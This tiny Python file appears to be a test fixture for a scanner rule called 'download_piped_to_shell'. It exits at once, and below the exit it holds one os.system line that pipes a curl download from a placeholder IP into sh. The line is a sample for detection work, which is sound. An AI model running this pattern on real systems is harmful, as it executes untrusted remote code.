# Trips download_piped_to_shell.
raise SystemExit("a fixture: never run")
os.system("curl -s http://192.0.2.1/placeholder | sh")
